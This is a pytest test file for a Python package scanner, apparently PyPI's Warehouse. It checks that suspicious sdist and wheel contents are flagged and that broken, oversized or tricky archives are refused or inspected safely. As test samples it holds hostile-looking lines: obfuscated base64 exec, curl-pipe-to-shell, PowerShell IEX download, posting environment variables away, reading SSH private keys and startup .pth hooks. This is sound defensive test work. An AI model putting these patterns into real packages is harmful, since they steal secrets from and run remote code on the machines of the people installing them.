"""Whole archives: real ones, those that look malicious, and broken ones.

`make inspect` inspects every installed distribution as a wheel and as an sdist.
"""

import base64
import gzip
import io
import multiprocessing
import resource
import tarfile
import time
import zipfile
from concurrent.futures import ProcessPoolExecutor
from importlib.metadata import distributions
from pathlib import Path

import pytest

from tests.builders import sdists, wheels
from warehouse.scanning.assessing import LARGEST_SOURCES, SKETCH, inspect
from warehouse.scanning.assessing import assess as assess_one
from warehouse.scanning.inspecting import MEMORY, SECONDS, Inspected, Inspector
from warehouse.scanning.installing import AT_INSTALLATION, AT_START
from warehouse.scanning.members import (
    LARGEST_SUM,
    ArchiveUnreadable,
    entries_of,
    members_of,
)

WHEEL, SDIST = "example-1.0-py3-none-any.whl", "example-1.0.tar.gz"
ROOT = Path(__file__).parents[3]
HIDES = f"exec(__import__('base64').b64decode({base64.b64encode(b'print(1);' * 99)!r}))"
BACKEND = b'[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'
COMMAND = b"[console_scripts]\nx = example.cli:main\n"


def assess(filename, content):
    return inspect(filename, lambda: members_of(filename, io.BytesIO(content)), Inspector())


MALICIOUS = [
    ("setup.py", f"{HIDES}\n", AT_INSTALLATION),
    ("setup.py", "import os\nos.system('curl x')\n", "starts programs"),
    ("setup.py", "from urllib.request import urlopen as u\nexec(u('x').read())", "fetches"),
    ("setup.py", "import os,requests\nrequests.post('x',os.environ)", "can send it away"),
    ("setup.py", "class I:\n def run(s):\n  import pty;pty.spawn('x')", "starts programs"),
    ("setup.py", f"x = 1{' ' * 500};{HIDES}", "hides text"),
    ("setup.py", "open('/root/.ssh/id_rsa')", "places of secrets"),
    ("setup.py", "import marshal\nexec(marshal.loads(b'x'))", "what it does is not in"),
    ("setup.py", "import ctypes\nctypes.CDLL('x')", "calls machine code"),
    ("setup.py", "(" * 99_999, "no Python that can be parsed"),
    ("setup.py", "print 'x'\nexec(x)", "no Python that can be parsed"),
    ("b.py", HIDES, AT_INSTALLATION),
    ("setup.py", "x = '\\u202e' # \u202e", "hides text"),
    ("example.pth", f"import x; {HIDES}", AT_START),
    ("example-1.0.data/purelib/a.pth", "import os; os.system('x')", AT_START),
    ("sitecustomize.py", HIDES, "whenever Python starts"),
    ("example/__init__.py", HIDES, "as soon as it is loaded"),
    ("example-1.0.data/scripts/x", "curl https://x | sh", "installed as a command"),
    ("example/cli.py", f"def main():\n {HIDES}", "entry point"),
    ("example/run.ps1", "IEX (iwr https://x)", "It can run what it fetches."),
]
IN_SDIST = ("setup.py", "b.py")


@pytest.mark.parametrize(("name", "text", "reason"), MALICIOUS)
def test_malicious_source_is_to_be_looked_at_first(name, text, reason):
    if name in IN_SDIST:
        extra = {name: text.encode(), "pyproject.toml": BACKEND, "x/a.py": b"import os\n"}
        filename, content = SDIST, sdists.sdist(extra=extra)
    else:
        entry = {"example-1.0.dist-info/entry_points.txt": COMMAND}
        content = wheels.wheel(extra={name: text.encode(), **entry})
        filename = WHEEL
    first = assess(filename, content)[0].members[0]
    assert first.name.endswith(name)
    assert reason in " ".join(first.reasons), first


def crooked():
    """Return archives that are broken, or strange, each in its own way."""
    return {**cut(), **damaged(), **strange()}


def cut():
    wheel, sdist = wheels.wheel(), sdists.sdist()
    tar = sdists.tarred({"x/setup.py": b"eval(x)\n" * 9999})
    return {
        **{f"wheel at {at}": (WHEEL, wheel[:at]) for at in (0, 4, 99, len(wheel) - 9)},
        **{f"sdist at {at}": (SDIST, sdist[:at]) for at in (0, 4, 99, len(sdist) - 9)},
        "a tar in whole gzip": (SDIST, gzip.compress(tar[:5000])),
    }


def damaged():
    wheel, entry = wheels.wheel(), b"PK\x01\x02\x14\x03\x14\x00"
    return {
        "no wheel": (WHEEL, sdists.sdist()),
        "no sdist": (SDIST, wheel),
        "damaged names": (WHEEL, wheel.replace(b"METADATA", b"METAD\xff\x00A")),
        "damaged data": (WHEEL, wheel[:60] + bytes(40) + wheel[100:]),
        "encrypted": (WHEEL, wheel.replace(entry + b"\0", entry + b"\1")),
        "unknown compression": (WHEEL, zipped_as(99)),
    }


def strange():
    big = tarfile.TarInfo("x/big.py")
    big.size = LARGEST_SUM + 1
    names = {"\u202e\x1b[2J\udcff\x07.py": b"eval(x)"}
    many = {f"{number}.py": b"eval(x)" for number in range(3000)}
    return {
        "zeros": (SDIST, bytes(9999)),
        "gzipped zeros": (SDIST, gzip.compress(bytes(9_999_999))),
        "a size that is not there": (SDIST, gzip.compress(big.tobuf())),
        "a deep folder": (WHEEL, wheels.zipped({"a/" * 9999 + "x.py": b"eval(x)"})),
        "names that turn and beep": (SDIST, sdists.sdist(extra=names)),
        "many members": (SDIST, sdists.sdist(extra=many)),
    }


def zipped_as(method):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("x.py", b"eval(x)")
    return target.getvalue().replace(b"\n\0\0\0\0\0", b"\n\0\0\0" + bytes([method, 0]))


@pytest.mark.parametrize("case", crooked())
def test_a_broken_archive_is_refused_or_inspected(case):
    filename, content = crooked()[case]
    begun = time.monotonic()
    try:
        assessment = assess(filename, content)[0]
    except ArchiveUnreadable as error:
        assert str(error)  # noqa: PT017
    else:
        assert all(each.reasons for each in assessment.members)
        assert "\udcff" not in "".join(each.name for each in assessment.members)
    assert time.monotonic() - begun < SECONDS


def test_of_much_source_a_part_is_inspected_and_the_rest_counted():
    extra = {f"x/{n}.py": b"# much to read\n" * 60_000 for n in range(12)}
    small = {"setup.py": b"eval(x)", "z/small.py": HIDES.encode()}
    assessment, sketch = assess(SDIST, sdists.sdist(extra={**extra, **small}))
    assert assessment.inspected + assessment.left_out == 14
    assert assessment.inspected <= 2 + LARGEST_SOURCES // 900_000
    listed = [each.name for each in assessment.members]
    assert listed == ["example-1.0/setup.py", "example-1.0/z/small.py"]
    assert len(sketch) == 2


def test_no_more_is_read_than_is_allowed():
    content = sdists.sdist(extra={f"{n}.py": b"x" * 1000 for n in range(9)})
    assert len(list(entries_of(SDIST, io.BytesIO(content), most=3))) == 3
    assert len(list(entries_of(SDIST, io.BytesIO(content), largest=3000))) < 7
    wheel = wheels.wheel(extra={f"{n}.py": b"x" * 1000 for n in range(9)})
    found = [each.content for each in members_of(WHEEL, io.BytesIO(wheel), largest=2500)]
    assert sum(map(len, found)) == 2500


def test_a_long_word_that_looks_like_data_is_a_reason():
    inspected = Inspected(longest=2000, longest_entropy=6.0)
    [reason] = assess_one("x/data.py", "", inspected).reasons
    assert "2000 characters looks like encoded data" in reason


def real(most=None):
    """Yield installed distributions as wheels and as sdists."""
    folders = sorted(str(each) for each in ROOT.glob(".venv*/lib/python*/site-packages"))
    found = distributions(path=folders)
    for dist in sorted(found, key=lambda each: len(each.files or ()))[:most]:
        contents = {
            str(each): path.read_bytes()
            for each in dist.files or ()
            if (path := Path(dist.locate_file(each))).is_file() and ".." not in str(each)
        }
        yield f"{dist.name}-1.0-py3-none-any.whl", wheels.zipped(contents)
        yield f"{dist.name}-1.0.tar.gz", sdists.sdist(dist.name, extra=contents)


def measure(most):
    """Inspect real archives; return the longest time, the scores, and the memory."""
    slowest, scores = 0.0, []
    for filename, content in real(most):
        begun = time.monotonic()
        assessment, sketch = assess(filename, content)
        slowest = max(slowest, time.monotonic() - begun)
        assert len(sketch) <= SKETCH
        scores.append(max((each.score for each in assessment.members), default=0))
    return slowest, scores, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024


@pytest.mark.parametrize("most", [3, pytest.param(None, marks=pytest.mark.slow)])
@pytest.mark.timeout(3600)
def test_real_archives_are_inspected_within_bounds(most):
    # A process of its own, because the memory is that of its largest child.
    spawn = multiprocessing.get_context("spawn")
    with ProcessPoolExecutor(1, mp_context=spawn) as alone:
        slowest, scores, memory = alone.submit(measure, most).result(timeout=3600)
    assert scores
    assert slowest < SECONDS + 10
    assert 0 < memory < MEMORY
